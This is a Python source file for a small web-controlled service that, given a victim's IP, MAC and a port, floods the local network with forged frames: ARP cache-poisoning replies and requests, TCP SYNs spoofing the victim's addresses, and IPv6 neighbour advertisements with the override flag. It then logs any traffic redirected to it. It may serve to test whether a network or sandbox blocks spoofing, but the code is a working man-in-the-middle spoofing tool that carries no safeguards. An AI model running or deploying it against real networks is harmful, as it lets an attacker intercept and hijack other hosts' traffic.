"""An app that wants the requests of another one: what POST / names is forged from then on.

The body is a line of words: the victim's address, the victim's hardware address, the host's own
address. GET / shows what has come in since that was not meant for it, a line each."""

import http.server
import os
import socket
import struct
import threading
import time

caught = []
EVERY_PROTOCOL = 0x0003
ARP, IPV4, IPV6 = 0x0806, 0x0800, 0x86DD
EVERYBODY = b"\xff" * 6


def hardware(text):
    return bytes.fromhex(text.replace(":", ""))


def mine():
    with open("/sys/class/net/eth0/address") as file:
        return hardware(file.read().strip())


def gateway():
    """Address, and hardware address, of the host on this network."""
    with open("/proc/net/route") as file:
        rows = [line.split() for line in file][1:]
    address = next(bytes.fromhex(row[2])[::-1] for row in rows if row[1] == "00000000")
    for _ in range(100):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (socket.inet_ntoa(address), 9))
        with open("/proc/net/arp") as file:
            for line in list(file)[1:]:
                if line.split()[0] == socket.inet_ntoa(address) and "00:00:00" not in line[:58]:
                    return address, hardware(line.split()[3])
        time.sleep(0.05)
    return address, EVERYBODY


def frame(to, of, kind, payload):
    return to + of + struct.pack("!H", kind) + payload


def arp(operation, of, address, to, wanted):
    return struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + of + address + to + wanted


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def tcp(source, target, of, to, flags):
    head = struct.pack("!HHIIBBHHH", of, to, 1, 1, 5 << 4, flags, 1024, 0, 0)
    pseudo = source + target
    pseudo += struct.pack("!BBH", 0, 6, 20) if len(source) == 4 else struct.pack("!II", 20, 6)
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def ipv4(source, target, payload):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 7, 0, 64, 6, 0) + source + target
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source, target, kind, payload):
    return struct.pack("!IHBB", 6 << 28, len(payload), kind, 255) + source + target + payload


def link_local(of):
    """The address that a kernel makes of a hardware address (RFC 4291, appendix A)."""
    return bytes.fromhex("fe80000000000000") + bytes([of[0] ^ 2]) + of[1:3] + b"\xff\xfe" + of[3:]


def advertisement(source, target, claimed, of):
    """ICMPv6 type 136: ``claimed`` is at ``of``, and that overrides what you knew (RFC 4861)."""
    body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + claimed + b"\x02\x01" + of
    pseudo = source + target + struct.pack("!II", len(body), 58)
    return body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]


def forgeries(victim, victims_hardware, port):
    """One of each kind."""
    me, (host, hosts) = mine(), gateway()
    own, hosts_own, victims_own = link_local(me), link_local(hosts), link_local(victims_hardware)
    yield frame(hosts, me, ARP, arp(2, me, victim, hosts, host))
    yield frame(EVERYBODY, me, ARP, arp(1, me, victim, b"\0" * 6, victim))
    yield frame(EVERYBODY, victims_hardware, ARP, arp(1, victims_hardware, victim, b"\0" * 6, host))
    yield frame(hosts, victims_hardware, IPV4, ipv4(victim, host, tcp(victim, host, 5000, port, 2)))
    yield frame(hosts, me, IPV4, ipv4(victim, host, tcp(victim, host, 5000, port, 2)))
    yield frame(hosts, me, IPV6, ipv6(own, hosts_own, 6, tcp(own, hosts_own, 5000, port, 2)))
    for claimed in (own, victims_own):
        said = advertisement(own, hosts_own, claimed, me)
        yield frame(hosts, me, IPV6, ipv6(own, hosts_own, 58, said))


def forge(victim, victims_hardware, port):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))
    print("forging", flush=True)
    while True:
        for forged in forgeries(victim, victims_hardware, port):
            wire.send(forged)
        time.sleep(0.01)


def listen(victim):
    """What a forger hopes for: frames for another's address, and a host that answers over IPv6."""
    me = mine()
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY_PROTOCOL))
    wire.bind(("eth0", EVERY_PROTOCOL))
    while True:
        data, sender = wire.recvfrom(65536)
        if sender[2] == socket.PACKET_OUTGOING or data[6:12] == me:
            continue
        kind = int.from_bytes(data[12:14])
        if kind == IPV4 and data[30:34] == victim:
            caught.append(f"a packet for the victim: {data[34:120]!r}")
        if kind == IPV6 and data[20] == 6:
            caught.append("the host has answered over IPv6")


class Forger(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer("".join(f"{line}\n" for line in caught))

    def do_POST(self):
        words = self.rfile.read(int(self.headers["Content-Length"])).decode().split()
        victim = socket.inet_aton(words[0])
        for work, more in ((listen, []), (forge, [hardware(words[1]), int(words[2])])):
            threading.Thread(target=work, args=[victim, *more], daemon=True).start()
        self.answer("forging\n")

    def answer(self, text):
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


port = int(os.environ.get("PORT", "5000"))
http.server.ThreadingHTTPServer(("0.0.0.0", port), Forger).serve_forever()
